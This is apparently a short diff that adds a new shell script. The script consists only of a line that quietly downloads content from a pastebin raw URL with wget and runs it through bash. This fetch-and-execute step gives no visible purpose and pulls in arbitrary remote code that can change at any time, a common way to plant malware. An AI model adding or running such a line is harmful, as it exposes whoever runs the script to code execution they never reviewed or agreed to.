@@ -1,0 +1,2 @@
+#!/bin/sh
+bash -c "$(wget -qO- https://pastebin.com/raw/00000000)"
